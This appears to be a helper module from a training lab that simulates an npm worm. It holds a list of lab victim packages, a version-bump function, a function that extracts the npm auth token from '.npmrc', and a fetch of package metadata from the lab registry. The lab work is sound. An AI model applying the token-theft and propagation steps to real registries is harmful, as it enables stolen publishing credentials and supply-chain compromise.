// The loop of a worm, made harmless: what it injects is a text file, and only the lab's `lab-victim-*` packages, on the
// lab's own registry, are touched.
'use strict';
const { lab, read, request } = require('./kit.js');

const victims = ['lab-victim-a', 'lab-victim-b', 'lab-victim-c'];
const bump = (v) => v.replace(/\d+$/, (n) => Number(n) + 1);
const token = () => (/_authToken=(\S+)/.exec(read('.npmrc')) || [])[1];
const packument = async (name) => JSON.parse((await request('GET', lab.registry + name)).text);

module.exports = { victims, bump, token, packument };
